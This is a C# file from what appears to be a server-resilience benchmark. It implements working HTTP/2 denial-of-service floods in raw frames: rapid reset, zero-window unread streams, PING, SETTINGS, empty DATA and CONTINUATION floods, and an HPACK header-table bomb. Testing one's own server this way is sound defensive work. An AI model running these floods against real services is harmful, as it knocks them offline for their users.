namespace Temper.Bench.Attack;

/// <summary>Attacks on HTTP/2 by raw frames, over TLS as Kestrel serves it.</summary>
internal static class Http2Floods
{
    private const int Batch = 50,
        MaxFrame = 16 << 10;

    public static IEnumerable<Attack> All =>
        [
            new("http2", "rapid reset: HEADERS and RST_STREAM", 8, (victim, end) => FloodAsync(victim, RapidReset, end), Https: true),
            new("http2", "streams that the client never reads", 8, UnreadAsync, Https: true),
            new(
                "http2",
                "PING",
                8,
                (victim, end) => FloodAsync(victim, Repeat(Http2.Frame(Http2.Ping, 0, 0, new byte[8])), end),
                Https: true
            ),
            new(
                "http2",
                "SETTINGS",
                8,
                (victim, end) => FloodAsync(victim, Repeat(Http2.Frame(Http2.Settings, 0, 0, [0, 4, 0, 1, 0, 0])), end),
                Https: true
            ),
            new("http2", "empty DATA of one stream", 8, EmptyDataAsync, Https: true),
            new("http2", "preface to the plain-text listener", 8, PlainTextAsync),
            new(
                "continuation",
                "CONTINUATION of 16 KiB without an end",
                8,
                (victim, end) =>
                    ContinueAsync(victim, Enumerable.Repeat(Http2.Header("x", new string('a', 100)), 150).SelectMany(h => h), end),
                Https: true
            ),
            new("continuation", "empty CONTINUATION without an end", 8, (victim, end) => ContinueAsync(victim, [], end), Https: true),
            new("continuation", "a header block of one large field, named 4000 times", 8, BombAsync, Https: true),
        ];

    /// <summary>Sends pieces until the API ends the connection, and reads beside it.</summary>
    /// <param name="piece">The next piece, from the number of those before.</param>
    private static async Task<string> FloodAsync(
        Victim victim,
        Func<Victim, int, byte[]> piece,
        CancellationToken end,
        byte[]? first = null
    )
    {
        await using var wire = await Wire.OpenAsync(victim, end);
        await wire.SendAsync([.. Http2.Preface, .. first ?? []], end);
        var answer = Http2.EndAsync(wire, end);
        for (var i = 0; !answer.IsCompleted; i++)
            try
            {
                await wire.SendAsync(piece(victim, i), end);
            }
            catch (IOException)
            {
                break;
            }
        return await answer;
    }

    private static Func<Victim, int, byte[]> Repeat(byte[] frame)
    {
        byte[] batch = [.. Enumerable.Repeat(frame, Batch).SelectMany(bytes => bytes)];
        return (_, _) => batch;
    }

    private static byte[] RapidReset(Victim victim, int number)
    {
        victim.CountStreams(Batch);
        var block = Http2.GetBlock("/jobs");
        return
        [
            .. Enumerable
                .Range(number * Batch, Batch)
                .SelectMany(i =>
                    (byte[])
                        [
                            .. Http2.Frame(Http2.Headers, Http2.EndStream | Http2.EndHeaders, 2 * i + 1, block),
                            .. Http2.Frame(Http2.Reset, 0, 2 * i + 1, [0, 0, 0, 8]),
                        ]
                ),
        ];
    }

    /// <summary>Opens streams for a large file with a window of no bytes.</summary>
    private static async Task<string> UnreadAsync(Victim victim, CancellationToken end)
    {
        await using var wire = await Wire.OpenAsync(victim, end);
        var block = Http2.GetBlock("/swagger/swagger-ui-bundle.js");
        await wire.SendAsync(
            [
                .. Http2.Preface,
                .. Http2.Frame(Http2.Settings, 0, 0, [0, 4, 0, 0, 0, 0]), // SETTINGS_INITIAL_WINDOW_SIZE = 0
                .. Enumerable
                    .Range(0, 100)
                    .SelectMany(i => Http2.Frame(Http2.Headers, Http2.EndStream | Http2.EndHeaders, 2 * i + 1, block)),
            ],
            end
        );
        victim.CountStreams(100);
        return await Http2.EndAsync(wire, end);
    }

    private static Task<string> EmptyDataAsync(Victim victim, CancellationToken end)
    {
        byte[] post = [0x83, .. Http2.GetBlock("/jobs")[1..]];
        return FloodAsync(victim, Repeat(Http2.Frame(Http2.Data, 0, 1, [])), end, Http2.Frame(Http2.Headers, Http2.EndHeaders, 1, post));
    }

    private static Task<string> ContinueAsync(Victim victim, IEnumerable<byte> headers, CancellationToken end)
    {
        byte[] payload = [.. headers];
        if (payload.Length > MaxFrame)
            throw new InvalidOperationException("The frame is too large.");
        return FloodAsync(
            victim,
            payload.Length == 0
                ? Repeat(Http2.Frame(Http2.Continuation, 0, 1, []))
                : (_, _) => Http2.Frame(Http2.Continuation, 0, 1, payload),
            end,
            Http2.Frame(Http2.Headers, Http2.EndStream, 1, Http2.GetBlock("/jobs"))
        );
    }

    /// <summary>Puts a field of 3 KiB into the table and names it again and again, in a byte each.</summary>
    private static Task<string> BombAsync(Victim victim, CancellationToken end)
    {
        const int length = 3000;
        byte[] field = [0x40, 1, (byte)'x', 0x7f, .. Integer(length - 127), .. Enumerable.Repeat((byte)'a', length)];
        return FloodAsync(
            victim,
            (counted, i) =>
            {
                counted.CountStreams(1);
                var block = (byte[])[.. Http2.GetBlock("/jobs"), .. i == 0 ? field : [], .. Enumerable.Repeat((byte)0xBE, 4000)];
                return Http2.Frame(Http2.Headers, Http2.EndStream | Http2.EndHeaders, 2 * i + 1, block);
            },
            end
        );

        static IEnumerable<byte> Integer(int rest)
        {
            for (; rest >= 128; rest >>= 7)
                yield return (byte)(rest & 127 | 128);
            yield return (byte)rest;
        }
    }

    private static async Task<string> PlainTextAsync(Victim victim, CancellationToken end)
    {
        await using var wire = await Wire.OpenAsync(victim, end);
        await wire.SendAsync(Http2.Preface, end);
        return await Http2.EndAsync(wire, end);
    }
}
